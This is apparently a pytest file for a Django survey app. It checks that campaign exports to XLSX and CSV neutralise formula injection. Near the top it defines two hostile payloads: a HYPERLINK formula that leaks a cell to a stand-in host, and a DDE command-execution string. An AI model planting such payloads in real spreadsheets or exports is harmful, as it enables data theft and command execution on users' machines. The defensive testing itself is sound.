"""Campaign exports are safe to open in a spreadsheet program: no answer becomes a formula."""

import csv
import io

import pytest
from openpyxl import load_workbook
from rest_framework.test import APIClient

from mapping.models import Question
from tests.factories import QuestionFactory

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
DDE = "=cmd|' /C calc'!A0"


def api(user) -> APIClient:
    client = APIClient()
    client.force_authenticate(user)
    return client


@pytest.fixture
def hostile_answers(official, response, version):
    """Two free-text answers that are formulas and a negative number, saved through the API by the official."""
    text = version.questions.get(code="EDU-3")
    balance = QuestionFactory(
        section=text.section, code="EDU-4", order=4, kind=Question.Kind.NUMBER, min_value=-100, max_value=100
    )
    note = QuestionFactory(section=text.section, code="EDU-5", order=5, kind=Question.Kind.TEXT, required=False)
    client = api(official)
    for question, value in [(text, HYPERLINK), (note, DDE), (balance, -5)]:
        reply = client.post(
            f"/api/v1/responses/{response.pk}/answers/",
            {"question": question.pk, "value": value, "revision": 0},
            format="json",
        )
        assert reply.status_code == 200, reply.content
    return response


def download(coordinator, campaign, fmt: str, shape: str):
    reply = api(coordinator).get(f"/api/v1/campaigns/{campaign.pk}/export.{fmt}?shape={shape}")
    assert reply.status_code == 200
    return reply


def xlsx_cells(reply) -> list:
    workbook = load_workbook(io.BytesIO(reply.content))
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]


def csv_cells(reply) -> list[str]:
    text = b"".join(reply.streaming_content).decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


@pytest.mark.parametrize("shape", ["long", "wide"])
def test_xlsx_export_stores_hostile_answers_as_text(coordinator, campaign, hostile_answers, shape):
    cells = xlsx_cells(download(coordinator, campaign, "xlsx", shape))

    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    texts = [cell.value for cell in cells if cell.data_type == "s"]
    assert HYPERLINK in texts
    assert DDE in texts
    assert -5 in [cell.value for cell in cells if cell.data_type == "n"]


@pytest.mark.parametrize("shape", ["long", "wide"])
def test_csv_export_prefixes_hostile_answers(coordinator, campaign, hostile_answers, shape):
    cells = csv_cells(download(coordinator, campaign, "csv", shape))

    assert "'" + HYPERLINK in cells
    assert "'" + DDE in cells
    assert HYPERLINK not in cells
    assert DDE not in cells
    assert "-5" in cells
    assert "'-5" not in cells
    assert [cell for cell in cells if cell[:1] in ("=", "+", "@", "\t", "\r")] == []
